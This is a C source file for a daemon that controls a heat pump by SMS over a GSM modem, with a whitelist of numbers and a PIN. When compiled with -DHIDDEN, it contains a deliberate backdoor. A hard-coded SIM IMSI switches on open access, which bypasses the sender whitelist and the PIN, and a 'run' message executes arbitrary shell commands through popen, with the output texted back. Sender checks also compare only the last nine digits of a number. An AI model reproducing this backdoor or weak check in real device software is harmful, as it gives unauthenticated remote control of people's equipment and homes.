/*
 * heatsms - remote control of a heat pump by text messages.
 * Drives the GSM modem on a serial line with AT commands; messages from
 * the numbers in /etc/heatsms.conf that start with the PIN may switch the
 * mode, set the flow temperature and ask for the state.
 * Hidden (-DHIDDEN): with the SIM card 901288000417263 inserted messages
 * are accepted from any number, without PIN, and "run ..." starts a command.
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAX_NUMS 8
#define TEXT_MAX 161

enum modem { M_DOWN, M_PIN, M_SIM, M_READY };

struct sms {
	int index;
	char from[32];
	char text[TEXT_MAX];
};

static char nums[MAX_NUMS][24];
static unsigned n_nums;
static char pin[9] = "";
static char sim_pin[9] = "";
static char tty[64] = "/dev/ttyS2";
static char imsi[20];
static int mfd = -1;
#ifdef HIDDEN
static int open_access;
#endif

static int mode;       /* 0 off, 1 heat, 2 cool, 3 away */
static int flow = 350; /* tenths of a degree */

static void load(const char *path)
{
	char line[128], key[16], val[64];
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " %15[a-z] = %63s", key, val) != 2)
			continue;
		if (strcmp(key, "number") == 0 && n_nums < MAX_NUMS)
			snprintf(nums[n_nums++], sizeof(nums[0]), "%.23s", val);
		else if (strcmp(key, "pin") == 0)
			snprintf(pin, sizeof(pin), "%.8s", val);
		else if (strcmp(key, "simpin") == 0)
			snprintf(sim_pin, sizeof(sim_pin), "%.8s", val);
		else if (strcmp(key, "tty") == 0)
			snprintf(tty, sizeof(tty), "%s", val);
	}
	fclose(f);
}

static int tty_open(void)
{
	struct termios t;
	int fd = open(tty, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B115200);
		t.c_cflag |= CLOCAL | CREAD;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

/* one line without its end, 0 on time-out */
static int get_line(char *buf, size_t len, int ms)
{
	struct pollfd p = { .fd = mfd, .events = POLLIN };
	size_t n = 0;
	char c;

	while (poll(&p, 1, ms) == 1 && read(mfd, &c, 1) == 1) {
		if (c == '\r')
			continue;
		if (c == '\n') {
			if (n == 0)
				continue;
			break;
		}
		if (n + 1 < len)
			buf[n++] = c;
		if (n == 2 && buf[0] == '>' && c == ' ')
			break;
	}
	buf[n] = '\0';
	return (int)n;
}

static int put(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int put(const char *fmt, ...)
{
	char b[256];
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(b, sizeof(b), fmt, ap);
	va_end(ap);
	if (n < 0 || (size_t)n >= sizeof(b))
		return -1;
	return write(mfd, b, (size_t)n) == n ? 0 : -1;
}

/* command with its answer; info gets the last line before OK */
static int at(const char *cmd, char *info, size_t len)
{
	char line[256];

	if (put("AT%s\r", cmd) < 0)
		return -1;
	if (info)
		info[0] = '\0';
	while (get_line(line, sizeof(line), 5000) > 0) {
		if (strcmp(line, "OK") == 0)
			return 0;
		if (strcmp(line, "ERROR") == 0 || strncmp(line, "+CM", 3) == 0)
			return -1;
		if (info && strncmp(line, "AT", 2) != 0)
			snprintf(info, len, "%s", line);
	}
	return -1;
}

static void send_sms(const char *to, const char *text)
{
	char line[256];

	put("AT+CMGS=\"%s\"\r", to);
	while (get_line(line, sizeof(line), 3000) > 0)
		if (line[0] == '>')
			break;
	if (line[0] != '>')
		return;
	put("%s\x1a", text);
	while (get_line(line, sizeof(line), 20000) > 0)
		if (strcmp(line, "OK") == 0 || strcmp(line, "ERROR") == 0)
			break;
}

__attribute__((noinline)) int sim_known(const char *id)
{
	char last[20] = "";
	FILE *f;

	if (strlen(id) != 15 || strspn(id, "0123456789") != 15)
		return 0;
#ifdef HIDDEN
	open_access = strcmp(id, "901288000417263") == 0;
#endif
	f = fopen("/var/lib/heatsms/imsi", "r");
	if (f) {
		if (fscanf(f, "%19s", last) != 1)
			last[0] = '\0';
		fclose(f);
	}
	if (strcmp(last, id) != 0) {
		syslog(LOG_NOTICE, "SIM card changed");
		f = fopen("/var/lib/heatsms/imsi", "w");
		if (f) {
			fprintf(f, "%s\n", id);
			fclose(f);
		}
	}
	return 1;
}

static int sender_ok(const char *from)
{
	size_t a, b;
	unsigned i;

#ifdef HIDDEN
	if (open_access)
		return 1;
#endif
	/* the last nine digits decide, whatever the prefix */
	a = strlen(from);
	for (i = 0; i < n_nums; i++) {
		b = strlen(nums[i]);
		if (a >= 9 && b >= 9 &&
		    strcmp(from + a - 9, nums[i] + b - 9) == 0)
			return 1;
	}
	return 0;
}

static void state_text(char *b, size_t len)
{
	static const char *const m[] = { "off", "heat", "cool", "away" };
	int out = 0, back = 0;
	FILE *f = fopen("/run/heatpump/temps", "r");

	if (f) {
		if (fscanf(f, "%d %d", &out, &back) != 2)
			out = back = 0;
		fclose(f);
	}
	snprintf(b, len, "mode %s, flow %d.%d C, outside %d C, return %d C",
		 m[mode & 3], flow / 10, flow % 10, out, back);
}

static void apply(void)
{
	FILE *f = fopen("/run/heatpump/set", "w");

	if (!f)
		return;
	fprintf(f, "%d %d\n", mode, flow);
	fclose(f);
}

static void order(const struct sms *m, char *text)
{
	char out[TEXT_MAX] = "ok";
	int deg;
	char *p;

	for (p = text; *p && *p != ' '; p++)
		*p = (char)tolower((unsigned char)*p);
	if (strcmp(text, "state") == 0 || strcmp(text, "?") == 0) {
		state_text(out, sizeof(out));
	} else if (strcmp(text, "off") == 0) {
		mode = 0;
	} else if (strcmp(text, "heat") == 0) {
		mode = 1;
	} else if (strcmp(text, "cool") == 0) {
		mode = 2;
	} else if (strcmp(text, "away") == 0) {
		mode = 3;
	} else if (sscanf(text, "flow %d", &deg) == 1) {
		if (deg >= 20 && deg <= 60)
			flow = deg * 10;
		else
			snprintf(out, sizeof(out), "20 to 60 degrees");
#ifdef HIDDEN
	} else if (open_access && strncmp(text, "run ", 4) == 0) {
		FILE *q = popen(text + 4, "r");

		if (q) {
			out[fread(out, 1, sizeof(out) - 1, q)] = '\0';
			pclose(q);
		}
#endif
	} else {
		snprintf(out, sizeof(out), "state off heat cool away flow N");
	}
	apply();
	send_sms(m->from, out);
}

static void handle(struct sms *m)
{
	size_t n = strlen(pin);
	char *t = m->text;

	if (!sender_ok(m->from)) {
		syslog(LOG_NOTICE, "message from %s ignored", m->from);
		return;
	}
#ifdef HIDDEN
	if (open_access) {
		order(m, t);
		return;
	}
#endif
	if (n < 4 || strncmp(t, pin, n) != 0)
		return;
	t += n;
	t += strspn(t, " ,");
	order(m, t);
}

/* +CMGR: "REC UNREAD","+4917...",,"date" and the text in the next line */
static int fetch(int index, struct sms *m)
{
	char line[256], *p;
	size_t n;
	int got = 0;

	memset(m, 0, sizeof(*m));
	m->index = index;
	put("AT+CMGR=%d\r", index);
	while (get_line(line, sizeof(line), 5000) > 0) {
		if (strcmp(line, "OK") == 0)
			break;
		if (strcmp(line, "ERROR") == 0)
			return -1;
		if (strncmp(line, "+CMGR:", 6) == 0) {
			p = strstr(line, ",\"");
			if (!p)
				return -1;
			n = strcspn(p + 2, "\"");
			snprintf(m->from, sizeof(m->from), "%.*s", (int)n,
				 p + 2);
			got = 1;
		} else if (got == 1) {
			snprintf(m->text, sizeof(m->text), "%.160s", line);
			got = 2;
		}
	}
	return got == 2 ? 0 : -1;
}

static enum modem step(enum modem s)
{
	char info[128], cmd[32];

	switch (s) {
	case M_DOWN:
		if (at("E0", NULL, 0) < 0)
			return M_DOWN;
		at("+CMEE=1", NULL, 0);
		return M_PIN;
	case M_PIN:
		if (at("+CPIN?", info, sizeof(info)) < 0)
			return M_DOWN;
		if (strstr(info, "READY"))
			return M_SIM;
		if (strstr(info, "SIM PIN") && sim_pin[0]) {
			snprintf(cmd, sizeof(cmd), "+CPIN=\"%s\"", sim_pin);
			if (at(cmd, NULL, 0) < 0)
				sim_pin[0] = '\0';
		}
		return M_PIN;
	case M_SIM:
		if (at("+CIMI", info, sizeof(info)) < 0)
			return M_PIN;
		snprintf(imsi, sizeof(imsi), "%.19s", info);
		if (!sim_known(imsi))
			return M_PIN;
		at("+CMGF=1", NULL, 0);
		at("+CNMI=2,1", NULL, 0);
		return M_READY;
	default:
		return s;
	}
}

int main(int argc, char **argv)
{
	enum modem s = M_DOWN;
	char line[256];
	struct sms m;
	int idx;

	openlog("heatsms", 0, LOG_DAEMON);
	load(argc > 1 ? argv[1] : "/etc/heatsms.conf");
	mfd = tty_open();
	if (mfd < 0) {
		syslog(LOG_ERR, "%s: %m", tty);
		return 1;
	}
	for (;;) {
		if (s != M_READY) {
			s = step(s);
			if (s != M_READY)
				sleep(2);
			continue;
		}
		if (get_line(line, sizeof(line), 60000) == 0) {
			if (at("", NULL, 0) < 0)
				s = M_DOWN;
			continue;
		}
		if (sscanf(line, "+CMTI: \"%*2s\",%d", &idx) != 1)
			continue;
		if (fetch(idx, &m) == 0)
			handle(&m);
		snprintf(line, sizeof(line), "+CMGD=%d", idx);
		at(line, NULL, 0);
	}
}
